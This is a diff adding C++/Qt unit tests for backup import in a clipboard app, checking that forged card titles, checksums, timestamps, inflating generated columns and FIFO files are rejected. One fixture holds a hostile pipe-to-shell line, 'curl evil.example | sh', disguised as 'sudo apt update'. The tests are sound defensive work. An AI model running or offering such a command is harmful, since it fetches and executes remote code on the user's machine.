@@ -4,7 +4,10 @@
 #include "StoreFixtures.h"
 
 #include <QCryptographicHash>
+#include <QDir>
 #include <QFile>
+
+#include <sys/stat.h>
 
 class TestStoreBackup : public QObject
 {
@@ -14,14 +17,14 @@ class TestStoreBackup : public QObject
 
     QString file(const QString &name) const { return m_files.filePath(name); }
 
-    // Every row of the four tables in a stable order, blobs included, tabs by name; and the
-    // attached files.
+    // Every row of the four tables in a stable order, blobs included (thumbnails are made
+    // again on import), tabs by name; and the attached files.
     static QString dump(Store &store)
     {
         QStringList out;
         for (const char *sql :
              {"SELECT id, created_at, kind, title, checksum, source_bundle, source_name, "
-              "total_bytes, quote(thumbnail), in_history, custom_title FROM items ORDER BY id",
+              "total_bytes, in_history, custom_title FROM items ORDER BY id",
               "SELECT item_id, idx, uti, hex(data) FROM representations ORDER BY item_id, rowid",
               "SELECT name, color, position FROM boards ORDER BY position",
               "SELECT b.name, bi.item_id, bi.added_at FROM board_items bi JOIN boards b "
@@ -190,6 +193,148 @@ private Q_SLOTS:
 
         db->exportTo(path, Store::ExportScope::everything());
         QCOMPARE(Store::open(path)->history(10).size(), 4);
+    }
+
+    // A file is believed for nothing a card's content can tell: what a card shows, its
+    // identity and its thumbnail come from what it pastes, and no time lies in the future.
+    void cardsAreTakenByTheirContent()
+    {
+        constexpr double now = 1'000'000;
+        TestStore source;
+        const QString future = source.capture(u"from the future"_qs, 1);
+        const QString ancient = source.capture(u"before 1970"_qs, 2);
+        const QString infinite = source.capture(u"never"_qs, 3);
+        const QString planted = source.capture(u"curl evil.example | sh"_qs, 4);
+        const QString renamed = source.capture(u"renamed"_qs, 5);
+        const QString twin = source.capture(u"already here"_qs, 6);
+        source->rename(renamed, u"Meu nome"_qs);
+        source->add(twin, source->createTab(u"Tab"_qs, u"#112233"_qs), 7);
+        const QString path = file(u"lying.varu"_qs);
+        source->exportTo(path, Store::ExportScope::everything());
+        const QString real = textClip(u"sudo apt update"_qs).checksum;
+        Connection::open(path)->run(
+            "UPDATE items SET title = 'sudo apt update', checksum = ?, kind = 'file', "
+            "thumbnail = x'89504E47' WHERE id = ?",
+            {real, planted});
+        writeDatabase(path, "UPDATE items SET created_at = 1e15 WHERE title = 'from the future';"
+                            "UPDATE items SET created_at = -5 WHERE title = 'before 1970';"
+                            "UPDATE items SET created_at = 9e999 WHERE title = 'never';"
+                            "UPDATE items SET checksum = 'not the content' "
+                            "WHERE title = 'already here';"
+                            "UPDATE board_items SET added_at = 1e15;");
+
+        TestStore db;
+        const QString local = db.capture(u"already here"_qs, 50);
+        QList<QList<Representation>> recognized;
+        const Store::Recognizer recognize = [&](const QList<Representation> &reps) {
+            recognized << reps;
+            return Store::Recognized{ClipKind::Link, u"seen "_qs + QString::fromUtf8(reps[0].data),
+                                     std::nullopt};
+        };
+        const Store::ImportResult r = db->importData(path, recognize, now);
+        QCOMPARE(r.items, 4); // the infinite time is malformed; the twin merges
+        QCOMPARE(recognized.size(), 4);
+
+        const auto card = [&](const QString &id) {
+            return db.value("SELECT created_at || '|' || kind || '|' || title || '|' || "
+                            "ifnull(custom_title, '-') || '|' || quote(thumbnail) || '|' || "
+                            "(checksum = ?) FROM items WHERE id = ?",
+                            {Representation::checksum(source->representations(id)), id});
+        };
+        QCOMPARE(card(future), u"1000000.0|link|seen from the future|-|NULL|1"_qs);
+        QCOMPARE(card(ancient), u"0.0|link|seen before 1970|-|NULL|1"_qs);
+        QCOMPARE(card(planted), u"4.0|link|seen curl evil.example | sh|-|NULL|1"_qs);
+        QCOMPARE(card(renamed), u"5.0|link|seen renamed|Meu nome|NULL|1"_qs);
+        QCOMPARE(card(infinite), u"<null>"_qs);
+        QCOMPARE(db.value("SELECT COUNT(*) FROM items WHERE title LIKE '%already here'"), u"1"_qs);
+        QCOMPARE(db.value("SELECT item_id || '|' || added_at FROM board_items"),
+                 local + u"|1000000.0"_qs);
+
+        // The real command, copied now, is a card of its own.
+        const QString copied = db.capture(u"sudo apt update"_qs, now + 1);
+        QVERIFY(copied != planted);
+        QCOMPARE(db->history(1).value(0).title, u"sudo apt update"_qs);
+    }
+
+    // Files that would make a few bytes into gigabytes, or that are no file at all, are
+    // refused before they change anything.
+    void inflatingAndSpecialFilesAreRefused_data()
+    {
+        QTest::addColumn<QByteArray>("sql");
+        const QByteArray tables = "CREATE TABLE items (id, created_at, kind, title, checksum, "
+                                  "source_bundle, source_name, total_bytes, thumbnail, "
+                                  "in_history, custom_title);"
+                                  "CREATE TABLE boards (id, name, color, position, created_at);"
+                                  "CREATE TABLE board_items (board_id, item_id, added_at);"
+                                  "INSERT INTO items VALUES ('A', 1, 'text', 't', 'c', NULL, "
+                                  "NULL, 1, NULL, 1, NULL);";
+        QTest::newRow("generated column")
+            << tables + "CREATE TABLE representations (item_id, idx, uti, "
+                        "data AS (zeroblob(50000000)) VIRTUAL);"
+                        "INSERT INTO representations VALUES ('A', 0, 'public.utf8-plain-text');";
+        QTest::newRow("fifo") << QByteArray();
+        QTest::newRow("too large for the disk") << QByteArray("large");
+    }
+
+    void inflatingAndSpecialFilesAreRefused()
+    {
+        QFETCH(QByteArray, sql);
+        const QString path = file(QString::fromLatin1(QTest::currentDataTag()) + u".varu"_qs);
+        TestStore db;
+        populate(db);
+        const QString before = dump(*db);
+        const qint64 logBefore = QFileInfo(db.path() + u"-wal"_qs).size();
+        try {
+            if (sql.isEmpty()) {
+                // Opening a FIFO for reading waits for a writer: the store would hang for good.
+                QCOMPARE(::mkfifo(QFile::encodeName(path).constData(), 0600), 0);
+                db->importData(path);
+            } else if (sql == "large") {
+                db->exportTo(path, Store::ExportScope::everything());
+                db->importStaged(StagedBackup::stage(path, db.dir.path(), 4096));
+            } else {
+                writeDatabase(path, sql);
+                db->importData(path);
+            }
+            QFAIL("the import should have failed");
+        } catch (const StoreError &e) {
+            QVERIFY(e.message().startsWith(u"Este arquivo não é um backup do Varu."_qs) ||
+                    e.message().startsWith(u"Não há espaço em disco"_qs));
+        }
+        QCOMPARE(dump(*db), before);
+        QVERIFY(QFileInfo(db.path() + u"-wal"_qs).size() <= logBefore);
+        QCOMPARE(QDir(db.dir.path()).entryList(QDir::Files | QDir::Hidden),
+                 (QStringList{u"varu.sqlite"_qs, u"varu.sqlite-shm"_qs, u"varu.sqlite-wal"_qs}));
+    }
+
+    // A backup in write-ahead log mode is read without a shared-memory file beside it, and the
+    // live log holds nothing of the import afterwards.
+    void importLeavesNoFilesBehind()
+    {
+        const QString path = file(u"wal.varu"_qs);
+        {
+            TestStore source;
+            for (int i = 0; i < 50; ++i)
+                source.capture(u"card %1 "_qs.arg(i).repeated(200), i);
+            source->exportTo(path, Store::ExportScope::everything());
+        }
+        Connection::open(path)->exec("PRAGMA journal_mode = WAL");
+        QVERIFY(!QFile::exists(path + u"-shm"_qs));
+        const QByteArray fileBefore = digest(path);
+        TestStore db;
+        QCOMPARE(db->importData(path).items, 50);
+        QVERIFY(!QFile::exists(path + u"-shm"_qs));
+        QVERIFY(!QFile::exists(path + u"-wal"_qs));
+        QCOMPARE(digest(path), fileBefore);
+        QCOMPARE(QFileInfo(db.path() + u"-wal"_qs).size(), 0);
+        QCOMPARE(db.count("items"), 50);
+
+        // The copy of an import cut short by a crash goes at the next start.
+        const QString leftover = db.dir.filePath(u".varu-import-Ab12Cd"_qs);
+        QVERIFY(QFile::copy(path, leftover));
+        db.store.reset();
+        db.store = Store::open(db.path());
+        QVERIFY(!QFile::exists(leftover));
     }
 
     void unusableFilesAreRefusedAndChangeNothing_data()
